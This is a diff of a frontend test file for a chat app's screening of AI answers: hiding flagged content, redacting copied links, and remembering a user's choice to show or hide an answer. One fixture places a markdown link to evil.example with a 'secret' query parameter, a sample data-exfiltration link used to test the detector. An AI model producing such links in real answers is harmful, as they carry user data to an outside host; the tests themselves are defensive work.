@@ -30,7 +30,10 @@ beforeAll(() => {
   completeJsdom();
   giveLayout();
 });
-afterEach(cleanup);
+afterEach(() => {
+  cleanup();
+  vi.unstubAllGlobals();
+});
 
 const id = createId(conversationIdSchema);
 const runId = createId(runIdSchema);
@@ -55,6 +58,7 @@ const remote: Remote = {
   name: 'OpenAI',
   baseUrl: 'https://api.openai.com/v1',
   modelName: 'gpt-5',
+  contextTokens: null,
   policyUrl: null,
 };
 
@@ -147,21 +151,35 @@ describe('answers from elsewhere', () => {
     const text = 'Read [the rest](https://evil.example/?d=secret) of it.';
     const findings = [
       { kind: 'harmful', start: 0, end: text.length },
-      { kind: 'link-carries-data', start: 5, end: 47 },
+      { kind: 'link-carries-data', start: text.indexOf('https'), end: text.indexOf(') of') },
     ] as const;
-    open([
-      answerOf([
-        { type: 'text', text },
-        { type: 'screening', findings },
-      ]),
+    // Catches what is hidden and leaves by the clipboard, or in the thoughts about it.
+    const answer = answerOf([
+      { type: 'reasoning', text: 'Thoughts about it.' },
+      { type: 'text', text },
+      { type: 'screening', findings },
     ]);
+    const allow = vi.fn(() => undefined);
+    const copied = vi.fn(() => Promise.resolve());
+    vi.stubGlobal('navigator', Object.create(navigator, { clipboard: { value: { writeText: copied } } }));
+    open([answer], { 'conversations.allowFindings': allow });
     expect(await screen.findByText(/content in this answer that may harm/)).toBeTruthy();
     expect(screen.queryByText('the rest')).toBeNull();
+    expect(screen.queryByRole('button', { name: 'Copy the answer' })).toBeNull();
+    expect(screen.queryByRole('button', { name: /Thought/ })).toBeNull();
     fireEvent.click(screen.getByRole('button', { name: 'Show anyway' }));
     expect((await screen.findByText('the rest')).tagName).toBe('SPAN');
+    await waitFor(() => expect(allow).toHaveBeenLastCalledWith({ messageId: answer.id, kinds: ['harmful'] }));
     expect(screen.getByText(/would carry data to evil.example/)).toBeTruthy();
+    const copy = screen.getByRole('button', { name: 'Copy the answer' });
+    fireEvent.click(copy);
+    await waitFor(() => expect(copied).toHaveBeenLastCalledWith('Read [the rest](…) of it.'));
     fireEvent.click(screen.getByRole('button', { name: 'Let me open them' }));
     await waitFor(() => expect(screen.getByText('the rest').tagName).toBe('BUTTON'));
+    const both = { messageId: answer.id, kinds: ['harmful', 'link-carries-data'] };
+    await waitFor(() => expect(allow).toHaveBeenLastCalledWith(both));
+    fireEvent.click(screen.getByRole('button', { name: 'Copied' }));
+    await waitFor(() => expect(copied).toHaveBeenLastCalledWith(text));
   });
 
   it('wait with their preview, after a reload too', async () => {
@@ -175,6 +193,35 @@ describe('answers from elsewhere', () => {
       },
     });
     expect(await screen.findByText(`Preview ${previewId}`)).toBeTruthy();
+  });
+});
+
+describe('an answer that a person chose to see', () => {
+  it('is shown from then on, until it is hidden again', async () => {
+    // Catches the choice that is forgotten whenever the message leaves the screen.
+    const allow = vi.fn(() => undefined);
+    const findings = [{ kind: 'harmful', start: 0, end: 3 }] as const;
+    const answer = answerOf([
+      { type: 'text', text: 'Mix it.' },
+      { type: 'screening', findings, allowed: ['harmful'] },
+    ]);
+    open([answer], { 'conversations.allowFindings': allow });
+    expect(await screen.findByText('Mix it.')).toBeTruthy();
+    fireEvent.click(screen.getByRole('button', { name: 'Hide it again' }));
+    await waitFor(() => expect(allow).toHaveBeenCalledExactlyOnceWith({ messageId: answer.id, kinds: [] }));
+    expect(screen.queryByText('Mix it.')).toBeNull();
+  });
+
+  it('is found in the chat only then', async () => {
+    // Catches the hidden answer whose words can be read out of it by looking for them.
+    const words: Message['parts'] = [{ type: 'text', text: 'Mix it well.' }];
+    const hidden = answerOf([...words, { type: 'screening', findings: [{ kind: 'harmful', start: 0, end: 3 }] }]);
+    const shown = answerOf(words, { parentId: hidden.id });
+    open([hidden, shown], { 'search.inConversation': () => [hidden.id, shown.id] });
+    await screen.findByText('Mix it well.');
+    fireEvent.click(screen.getByRole('button', { name: 'Find in this chat' }));
+    fireEvent.change(screen.getByRole('textbox', { name: 'Find in this chat' }), { target: { value: 'well' } });
+    expect(await screen.findByText('1 of 1')).toBeTruthy();
   });
 });
 
